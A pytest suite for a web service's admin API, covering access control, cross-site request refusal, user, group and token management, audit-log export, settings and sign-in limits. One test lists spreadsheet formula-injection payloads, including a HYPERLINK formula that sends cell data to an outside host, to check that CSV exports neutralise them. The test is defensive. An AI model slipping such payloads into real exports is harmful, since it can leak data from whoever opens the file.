"""Administration over the API: who may, what each call does, what it writes down."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from services.auth.user import User
from services.container import Container
from tests.http.conftest import PASSWORD, rechecked, revoked, sign_in


class Admin:
    """A client that acts as root."""

    def __init__(self, client: FlaskClient, headers: dict[str, str]) -> None:
        self._client = client
        self._headers = headers

    def __call__(self, method: str, path: str, status: int, body: dict[str, Any] | None = None) -> Any:
        answer = self.ask(method, path, body)
        assert answer.status_code == status, answer.text
        return answer.json if answer.is_json else answer.text

    def ask(self, method: str, path: str, body: dict[str, Any] | None = None) -> TestResponse:
        return self._client.open(f"/api/v1/admin/{path}", method=method, json=body, headers=self._headers)


@pytest.fixture
def root(container: Container) -> User:
    return container.users.create("root", PASSWORD, "admin")


@pytest.fixture
def admin(client: FlaskClient, root: User) -> Admin:
    return Admin(client, sign_in(client, "root"))


def acts(admin: Admin) -> list[tuple[str, str]]:
    entries = admin("GET", "audit?limit=100", 200)["entries"]
    return [(entry["act"], entry["subject"]["name"]) for entry in entries if entry["actor"]["name"] == "root"]


# -- who may -----------------------------------------------------------------------------------------------------------


def test_every_call_is_for_admins_alone(app: Flask, client: FlaskClient, bearer: dict[str, str]) -> None:
    rules = [rule for rule in app.url_map.iter_rules() if rule.rule.startswith("/api/v1/admin/")]
    assert len(rules) > 20
    for rule in rules:
        path = "/api/v1/admin/" + "/".join("x" if "<" in part else part for part in rule.rule.split("/")[4:])
        for method in (rule.methods or set()) - {"HEAD", "OPTIONS"}:
            assert client.open(path, method=method).status_code == 401, f"{method} {path}"
            assert client.open(path, method=method, headers=bearer).status_code == 403, f"{method} {path}"


def test_a_page_of_another_site_changes_nothing(client: FlaskClient, container: Container, root: User) -> None:
    form = client.get("/login").text.split('name="csrf_token" value="')[1].split('"')[0]
    client.post("/login", data={"username": "root", "password": PASSWORD, "csrf_token": form})
    elsewhere = {"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"}
    refused = client.post("/api/v1/admin/users", json={"username": "mallory"}, headers=elsewhere)
    assert refused.status_code == 403
    assert [user.username for user in container.users.list()] == ["root"]


# -- users -------------------------------------------------------------------------------------------------------------


def test_a_user_is_created_with_a_password_that_is_shown_once(admin: Admin, client: FlaskClient) -> None:
    made = admin("POST", "users", 201, {"username": "bob"})
    assert (made["username"], made["role"], made["disabled"], made["groups"]) == ("bob", "member", False, [])
    assert sign_in(client, "bob", made["password"])
    assert "password" not in admin("GET", f"users/{made['id']}", 200)
    assert "password" not in admin("POST", "users", 201, {"username": "eve", "password": PASSWORD})
    assert acts(admin)[:2] == [("user.created", "eve"), ("user.created", "bob")]
    admin("POST", "users", 409, {"username": "bob"})
    admin("POST", "users", 400, {"username": "not a name"})
    admin("POST", "users", 400, {"username": "zoe", "role": "owner"})


def test_users_are_found_and_paged(admin: Admin, container: Container) -> None:
    for name in ("anna", "Bert", "carl_1", "carlos"):
        container.users.create(name, PASSWORD)
    container.users.disable("anna")

    def names(query: str) -> list[str]:
        return [user["username"] for user in admin("GET", f"users?{query}", 200)["users"]]

    assert names("q=CARL") == ["carl_1", "carlos"]
    assert names("q=l_1") == ["carl_1"], "an underscore is no wildcard"
    assert names("state=disabled") == ["anna"]
    assert names("role=admin") == ["root"]
    admin("GET", "users?role=owner", 400)
    found: list[str] = []
    cursor = ""
    while cursor is not None:
        page = admin("GET", f"users?limit=2&cursor={cursor}", 200)
        found += [user["username"] for user in page["users"]]
        cursor = page["next"]
    assert found == ["Bert", "anna", "carl_1", "carlos", "root"]


def test_a_user_is_disabled_and_enabled(
    admin: Admin, client: FlaskClient, container: Container, alice: User, bearer: dict[str, str]
) -> None:
    assert admin("PATCH", f"users/{alice.id}", 200, {"disabled": True})["disabled"] is True
    assert client.get("/api/v1/private", headers=bearer).status_code == 401
    assert revoked(container, "user_id") == [alice.id]
    assert admin("PATCH", f"users/{alice.id}", 200, {"disabled": False})["disabled"] is False
    assert acts(admin)[:2] == [("user.enabled", "alice"), ("user.disabled", "alice")]


def test_a_role_is_changed(admin: Admin, container: Container, alice: User) -> None:
    assert admin("PATCH", f"users/{alice.id}", 200, {"role": "admin"})["role"] == "admin"
    admin("PATCH", f"users/{alice.id}", 200, {"role": "member"})
    assert rechecked(container) == [alice.id, alice.id]
    for bad in ({}, {"role": "owner"}, {"role": None}, {"disabled": "yes"}):
        admin("PATCH", f"users/{alice.id}", 400, bad)


def test_the_last_admin_stays_one(admin: Admin, root: User, container: Container) -> None:
    for method, body in (("PATCH", {"role": "member"}), ("PATCH", {"disabled": True}), ("DELETE", None)):
        assert admin(method, f"users/{root.id}", 409, body)["error"]["code"] == "last_admin"
    other = container.users.create("other", PASSWORD, "admin")
    admin("PATCH", f"users/{other.id}", 200, {"disabled": True})
    assert admin("PATCH", f"users/{root.id}", 409, {"role": "member"})["error"]["code"] == "last_admin"
    assert container.users.by_name("root").role == "admin"


def test_a_password_is_reset(admin: Admin, client: FlaskClient, alice: User, bearer: dict[str, str]) -> None:
    made = admin("POST", f"users/{alice.id}/password", 200)["password"]
    assert client.get("/api/v1/private", headers=bearer).status_code == 401
    assert sign_in(client, "alice", made)
    assert admin("POST", f"users/{alice.id}/password", 200, {"password": "another password"}) == {}
    assert sign_in(client, "alice", "another password")
    admin("POST", f"users/{alice.id}/password", 400, {"password": "short"})


def test_who_signs_in_elsewhere_has_no_password_to_reset(admin: Admin, container: Container) -> None:
    user = container.users.by_outside_subject("https://issuer.example", "42")
    assert admin("GET", f"users/{user.id}", 200)["signs_in"] == "elsewhere"
    admin("POST", f"users/{user.id}/password", 409)


def test_a_user_is_deleted(admin: Admin, client: FlaskClient, alice: User, bearer: dict[str, str]) -> None:
    assert admin("DELETE", f"users/{alice.id}", 204) == ""
    assert client.get("/api/v1/private", headers=bearer).status_code == 401
    admin("GET", f"users/{alice.id}", 404)
    assert acts(admin)[:2] == [("user.deleted", "alice"), ("user.disabled", "alice")]


def test_a_grant_is_given_and_taken_back(
    admin: Admin, client: FlaskClient, container: Container, alice: User, bearer: dict[str, str]
) -> None:
    def status() -> int:
        return client.post("/api/v1/auth/stream-token", json={"channels": ["jobs.1"]}, headers=bearer).status_code

    granted = admin("POST", f"users/{alice.id}/grants", 201, {"action": "subscribe", "pattern": "jobs.*"})
    assert (granted["subscribe"], status()) == (["jobs.*"], 200)
    admin("DELETE", f"users/{alice.id}/grants?action=subscribe&pattern=jobs.*", 204)
    assert (status(), rechecked(container)) == (403, [alice.id])
    admin("DELETE", f"users/{alice.id}/grants?action=subscribe&pattern=jobs.*", 404)
    admin("POST", f"users/{alice.id}/grants", 400, {"action": "own", "pattern": "jobs.*"})
    admin("POST", f"users/{alice.id}/grants", 400, {"action": "publish", "pattern": "Jobs"})


# -- groups ------------------------------------------------------------------------------------------------------------


def test_a_group_grants_its_members(
    admin: Admin, client: FlaskClient, container: Container, alice: User, bearer: dict[str, str]
) -> None:
    def status() -> int:
        return client.post("/api/v1/auth/stream-token", json={"channels": ["jobs.1"]}, headers=bearer).status_code

    group = admin("POST", "groups", 201, {"name": "Night shift"})
    at = f"groups/{group['id']}"
    admin("POST", f"{at}/grants", 201, {"action": "subscribe", "pattern": "jobs.*"})
    shown = admin("POST", f"{at}/members", 201, {"username": "alice"})
    assert shown["members"] == [{"id": alice.id, "username": "alice"}]
    assert admin("GET", f"users/{alice.id}", 200)["groups"] == [{"id": group["id"], "name": "Night shift"}]
    assert status() == 200
    admin("DELETE", f"{at}/members/{alice.id}", 204)
    assert (status(), rechecked(container)) == (403, [alice.id])
    admin("POST", f"{at}/members", 201, {"user_id": alice.id})
    admin("DELETE", f"{at}/grants?action=subscribe&pattern=jobs.*", 204)
    assert admin("PATCH", at, 200, {"name": "Late shift"})["name"] == "Late shift"
    admin("DELETE", at, 204)
    assert (status(), rechecked(container)) == (403, [alice.id] * 3)
    assert admin("GET", "groups", 200) == {"groups": []}
    admin("GET", at, 404)
    admin("POST", f"{at}/members", 404, {"username": "alice"})


# -- service tokens ----------------------------------------------------------------------------------------------------


def test_a_token_is_shown_once_used_rotated_and_revoked(
    admin: Admin, client: FlaskClient, container: Container, root: User
) -> None:
    def opens(token: str) -> bool:
        answer = client.get("/api/v1/auth/me", headers={"Authorization": f"Bearer {token}"})
        return answer.status_code == 200

    made = admin("POST", "tokens", 201, {"name": "ci", "publish": ["jobs.*"], "expires_days": 90})
    assert (made["made_by"], made["maker_id"], made["last_used_at"]) == ("root", root.id, None)
    assert opens(made["token"])
    at = f"tokens/{made['id']}"
    shown = admin("GET", at, 200)
    assert "token" not in shown
    assert (shown["last_used_address"], shown["last_used_at"] is not None) == ("127.0.0.1", True)
    second = admin("POST", f"{at}/rotate", 200, {"grace_days": 1})["token"]
    assert opens(made["token"]) and opens(second)
    third = admin("POST", f"{at}/rotate", 200)["token"]
    assert [opens(token) for token in (made["token"], second, third)] == [False, False, True]
    assert revoked(container, "login_id") == [f"{made['id']}.2"]
    admin("DELETE", at, 204)
    assert not opens(third)
    assert revoked(container, "user_id") == [made["id"]]
    assert [token["state"] for token in admin("GET", "tokens", 200)["tokens"]] == ["revoked"]
    admin("DELETE", at, 404)
    admin("POST", f"{at}/rotate", 409)
    written = admin.ask("GET", "audit?format=jsonl").text
    assert third not in written


@pytest.mark.parametrize(
    "body",
    [
        {}, {"publish": "jobs.*"}, {"publish": [1]}, {"publish": ["Jobs"]}, {"publish": ["jobs.*"], "expires_days": 0},
        {"publish": ["jobs.*"], "expires_days": 1.5}, {"publish": ["jobs.*"], "expires_days": True},
        {"publish": ["jobs.*"], "expires_days": 10**9}, {"publish": ["jobs.*"], "name": "a\nb"},
    ],
    ids=str,
)  # fmt: skip
def test_a_token_that_makes_no_sense_is_refused(admin: Admin, body: dict[str, Any]) -> None:
    admin("POST", "tokens", 400, body)
    assert admin("GET", "tokens", 200)["tokens"] == []


# -- audit log ---------------------------------------------------------------------------------------------------------


def test_the_log_is_filtered_and_paged(admin: Admin, container: Container) -> None:
    container.groups.create("one")
    admin("POST", "groups", 201, {"name": "two"})
    page = admin("GET", "audit?act=group&limit=1", 200)
    assert [entry["subject"]["name"] for entry in page["entries"]] == ["two"]
    (entry,) = page["entries"]
    assert (entry["actor"]["name"], entry["address"]) == ("root", "127.0.0.1")
    page = admin("GET", f"audit?act=group&limit=1&cursor={page['next']}", 200)
    assert [entry["actor"] for entry in page["entries"]] == [{"id": None, "name": "command line"}]
    assert page["next"] is None
    assert admin("GET", "audit?actor=root&since=2020-01-01", 200)["entries"]
    assert admin("GET", "audit?until=2020-01-01", 200)["entries"] == []
    for bad in ("since=soon", "limit=0", "cursor=x", "since=nan", "q=%00"):
        admin("GET", f"audit?{bad}", 400)


FORMULAS = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\uff1d1+1", '=HYPERLINK("http://x/?"&A1)', 'a";=1+1;"b', "-5"]


def test_in_an_export_no_text_becomes_a_formula(admin: Admin, container: Container) -> None:
    for name in FORMULAS:
        container.groups.create(name)
    exported = admin.ask("GET", "audit?act=group.created&format=csv")
    assert exported.headers["Content-Disposition"] == "attachment; filename=audit-log.csv"
    head, *rows = list(csv.reader(io.StringIO(exported.text.removeprefix("\ufeff"), newline="")))
    assert {len(row) for row in rows} == {len(head)}
    names = [row[head.index("subject")] for row in reversed(rows)]
    for name, cell in zip(FORMULAS, names, strict=True):
        assert cell.replace("'", "") == name.replace("'", "")
        assert cell.lstrip()[0] not in "=+-@\uff1d", cell
    lines = admin.ask("GET", "audit?act=group.created&format=jsonl").text.splitlines()
    assert [json.loads(line)["subject"]["name"] for line in reversed(lines)] == FORMULAS


# -- settings and limits -----------------------------------------------------------------------------------------------


def test_settings_are_shown_with_their_source_and_without_secrets(admin: Admin) -> None:
    shown = {setting["name"]: setting for setting in admin("GET", "settings", 200)["settings"]}
    assert shown["TAILRACE_WORKERS"]["default"] == "2"
    secrets = [setting for setting in shown.values() if setting["secret"]]
    assert len(secrets) > 3
    assert {setting["value"] for setting in secrets} == {None}


def test_who_met_a_limit_is_shown_and_a_lock_is_opened(admin: Admin, client: FlaskClient, alice: User) -> None:
    wrong = {"username": "alice", "password": "wrong wrong wrong"}
    for _ in range(5):
        assert client.post("/api/v1/auth/login", json=wrong).status_code == 401
    assert client.post("/api/v1/auth/login", json=wrong).status_code == 429
    limits = admin("GET", "limits", 200)
    standings = {(one["limit"], one["caller"], one["caller_name"]): one for one in limits["standings"]}
    by_name = standings["sign_ins", None, "alice"]
    assert (by_name["used"], by_name["of"], by_name["left"]) == (5, 5, 0)
    assert ("sign_ins", "127.0.0.1", None) in standings
    assert [(one["limit"], one["caller"], one["count"]) for one in limits["refusals"]] == [("sign_ins", "127.0.0.1", 1)]
    assert admin("DELETE", "limits/sign-ins?username=alice", 200)["cleared"] == 5
    assert sign_in(client, "alice")
    admin("DELETE", "limits/sign-ins", 400)
    assert acts(admin)[0] == ("sign_in_limit.cleared", "alice")
